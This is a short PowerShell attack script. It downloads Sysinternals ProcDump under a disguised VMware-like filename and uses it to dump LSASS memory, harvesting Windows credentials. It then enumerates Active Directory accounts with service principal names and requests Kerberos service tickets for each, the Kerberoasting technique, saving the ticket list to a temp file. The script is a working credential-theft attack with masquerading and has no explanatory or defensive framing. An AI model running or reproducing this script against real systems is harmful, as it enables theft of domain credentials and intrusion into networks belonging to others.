$tool = "$env:TEMP\vmtoolsd_helper.exe"
Invoke-WebRequest -Uri 'https://live.sysinternals.com/procdump64.exe' -OutFile $tool -UseBasicParsing
$target = Get-Process lsass
& $tool -accepteula -ma $target.Id "$env:TEMP\vm.dmp"

Add-Type -AssemblyName System.IdentityModel
$spns = ([adsisearcher]'(&(objectCategory=user)(servicePrincipalName=*))').FindAll()
foreach ($s in $spns) {
    $spn = $s.Properties['serviceprincipalname'][0]
    New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList $spn | Out-Null
}
klist | Out-File "$env:TEMP\vm.txt"
